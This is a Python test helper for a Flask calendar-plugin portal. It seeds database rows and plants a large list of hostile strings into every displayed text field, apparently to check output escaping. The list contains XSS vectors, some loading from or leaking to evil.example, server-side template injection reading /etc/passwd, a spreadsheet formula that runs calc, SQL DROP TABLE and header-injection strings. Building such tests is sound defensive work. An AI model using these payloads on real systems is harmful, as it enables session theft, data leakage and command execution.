"""Hostile texts, and every place where a text of a person is kept and shown."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from itertools import islice, product
from typing import Any

import sqlalchemy as sa
from flask import Flask

from example_app.database import db
from example_app.models import Customer, ExtensionRow, User
from gcal_plugin.domain.link_state import LinkState
from gcal_plugin.domain.request_state import RequestState
from gcal_plugin.store.tables import (
    Activity,
    BlockedNumber,
    Calendar,
    Forwarding,
    Grant,
    LedgerEntry,
    Link,
    MailOut,
    PriceTemplate,
    Request,
    RequestStep,
)

MARK = "zx%04dzx"
_RUN = "window.zxhit=1"
BODIES = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    '<script src="//evil.example/x.js"></script>',
    f'<img src=x onerror="{_RUN}">',
    f"<svg onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<iframe srcdoc='<script>{_RUN.replace('window', 'parent')}</script>'>",
    f'<iframe src="javascript:parent.{_RUN}">',
    f'<a href="javascript:{_RUN}">click</a>',
    f'<a href="jAvAsCrIpT&colon;{_RUN}">click</a>',
    f'<object data="data:text/html,<script>{_RUN}</script>">',
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>*{background:url(//evil.example/leak)}</style>",
    '<form action="//evil.example"><input name=csrf_token>',
    '<button formaction="//evil.example">Doorgaan</button>',
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus x='",
    f"` onclick=`{_RUN}`",
    f'" style="animation-name:x" onanimationstart="{_RUN}',
    "javascript:" + _RUN,
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuenhoaXQ9MTwvc2NyaXB0Pg==",
    f"--><script>{_RUN}</script><!--",
    f"]]><script>{_RUN}</script>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜script＞{_RUN}＜/script＞",
    f"<scr\x00ipt>{_RUN}</scr\x00ipt>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    "{{7*7}}",
    "{{config}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{% include '/etc/passwd' %}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "%(secret)s %s %d {0} {secret!r}",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "'; DROP TABLE gcal_link; --",
    "\r\nSet-Cookie: zx=1\r\n\r\n<script>",
    "\u202egpj.exe\u202c",
    "a\u2066b\u2069\u200f\u061c",
)
_AROUND: tuple[Callable[[str], str], ...] = (
    lambda body: body,
    lambda body: f'">{body}',
    lambda body: f"'>{body}",
    lambda body: f"</title>{body}",
    lambda body: f"</textarea></script></style>{body}",
    lambda body: f"</option></select>{body}<!--",
    lambda body: f"x\n\t{body}\n",
    lambda body: f"{body}\\",
    lambda body: f"<b {body}",
    lambda body: f"\u202e{body}",
)


def payloads(count: int) -> list[str]:
    """So many hostile texts, each with a mark of its own in front."""
    texts = (around(body) for around, body in product(_AROUND, BODIES))
    return [MARK % number + text for number, text in enumerate(islice(texts, count))]


Slot = Callable[[str], None]


def _slot(row: Any, name: str) -> Slot:
    return lambda text: setattr(row, name, text)


def _detail(row: Any, key: str) -> Slot:
    return lambda text: setattr(row, "detail", {key: text})


def furnish(app: Flask) -> str:
    """Give Jan a row in every table that shows something; answers the id of his request."""
    with app.app_context():
        session: Any = db.session
        rt = app.extensions["gcal"]
        now = rt.store.now(session())
        link = session.scalars(sa.select(Link).where(Link.account_id == "1")).one()
        grant = Grant(client_id="c", subject="s", email="x", created_at=now, scopes=[])
        session.add(grant)
        session.flush()
        calendar = Calendar(
            grant_id=grant.id, google_id="x", name="x", owner="x", time_zone="Europe/Amsterdam",
            synced_at=now,
        )  # fmt: skip
        session.add(calendar)
        session.flush()
        link.grant_id, link.calendar_id, link.state = grant.id, calendar.id, LinkState.LINKED.value
        request = Request(
            tenant_id="belwinkel", account_id="1", account_email="x", customer_code="x",
            customer_name="x", domain="bakkerij-jansen.example", extension="201",
            state=RequestState.QUOTED.value, once_price=1, monthly_price=2, vat_percent=21,
            quotes=1, created_at=now, changed_at=now,
        )  # fmt: skip
        session.add(request)
        session.flush()
        forwarding = session.get(Forwarding, link.id)
        if forwarding is None:
            forwarding = Forwarding(
                link_id=link.id, tenant_id=link.tenant_id, pbx=link.pbx, domain=link.domain,
                extension=link.extension,
            )  # fmt: skip
            session.add(forwarding)
        forwarding.failures, forwarding.last_error = 3, "x"
        session.add_all(
            [
                RequestStep(
                    request_id=request.id, at=now, actor="support:4", action="note",
                    state="quoted", detail={"note": "x"},
                ),
                PriceTemplate(
                    tenant_id="belwinkel", name="x", once_price=1, monthly_price=1, vat_percent=21
                ),
                MailOut(
                    key="k", tenant_id="belwinkel", kind="note", recipient="x",
                    request_id=request.id, state="failed", tries=9, created_at=now, last_error="x",
                ),
                BlockedNumber(value="+31612345678", tenant_id="belwinkel", at=now, by="x:4"),
                Activity(
                    link_id=link.id, tenant_id="belwinkel", at=now, what="refused",
                    actor="system", detail={"error": "x"},
                ),
                LedgerEntry(
                    link_id=link.id, tenant_id="belwinkel", pbx="main", due_at=now, cause="edge",
                    revision=1, outcome="refused", detail="x",
                ),
            ]
        )  # fmt: skip
        session.commit()
        key = str(request.id)
        session.remove()
    return key


def slots(session: Any) -> list[Slot]:
    """Every place of `furnish` and of the portal that holds a text of a person or a machine."""

    def one(table: Any) -> Any:
        return session.scalars(sa.select(table)).first()

    request, calendar, template = one(Request), one(Calendar), one(PriceTemplate)
    mail, customer, jan = one(MailOut), session.get(Customer, 1), session.get(User, 1)
    names = ("customer_name", "customer_code", "remarks", "note", "summary", "rate_text")
    found = [_slot(request, name) for name in (*names, "account_email")]
    found += [_slot(calendar, name) for name in ("name", "owner", "last_error")]
    found += [_slot(template, name) for name in ("name", "summary")]
    found += [_slot(mail, name) for name in ("recipient", "last_error")]
    found += [_slot(customer, "name"), _slot(jan, "name"), _slot(one(Grant), "email")]
    found += [_slot(one(Forwarding), "last_error"), _slot(one(BlockedNumber), "note")]
    found += [_detail(one(RequestStep), "note"), _detail(one(Activity), "error")]
    found += [_slot(one(LedgerEntry), "detail"), _slot(one(Link), "second_contact")]
    found += [_slot(row, "name") for row in session.scalars(sa.select(ExtensionRow)).all()[:2]]
    return found


def plant(app: Flask, texts: Sequence[str], shift: int = 0) -> None:
    """Put a text into every place, in turn, beginning at `shift`."""
    with app.app_context():
        session: Any = db.session
        for place, put in enumerate(slots(session)):
            put(texts[(shift + place) % len(texts)])
        session.commit()
        session.remove()


def places(app: Flask) -> int:
    """How many places there are."""
    with app.app_context():
        count = len(slots(db.session))
        db.session.remove()
    return count
